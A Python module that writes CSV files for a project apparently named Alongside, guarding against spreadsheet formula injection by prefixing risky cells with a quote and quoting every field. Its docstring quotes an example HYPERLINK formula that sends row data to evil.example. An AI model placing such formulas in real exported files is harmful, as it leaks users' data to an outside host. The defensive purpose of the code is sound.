"""Write CSV that a spreadsheet opens as data, never as formulas (CSV injection).

A cell that begins with =, +, -, @, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets when the file is opened: a name typed as
`=HYPERLINK("https://evil.example/?"&A2, "Click")` becomes a link that sends the row away.
As OWASP recommends, such text cells get a leading single quote, which spreadsheets read
as "this is text", and every cell is wrapped in double quotes (doubling any inside), so a
separator inside a value cannot start a new cell even where the spreadsheet splits on `;`.

The quote is added to legitimate text too: a phone typed "+1 212 555 0100" or a note
starting with "-" reads "'+1 212 555 0100" in the file. Numbers the code writes as numbers
(int, float, Decimal) are left alone, so a negative score stays a number; dates and other
values are written as their text and checked like any text.

Every CSV Alongside writes goes through `writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Stream(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralize(value: Any) -> Any:
    """The cell as written: text a spreadsheet would run gets a leading single quote."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell neutralized and quoted."""

    def __init__(self, stream: _Stream) -> None:
        self._writer = csv.writer(stream, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralize(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Stream) -> SafeWriter:
    return SafeWriter(stream)
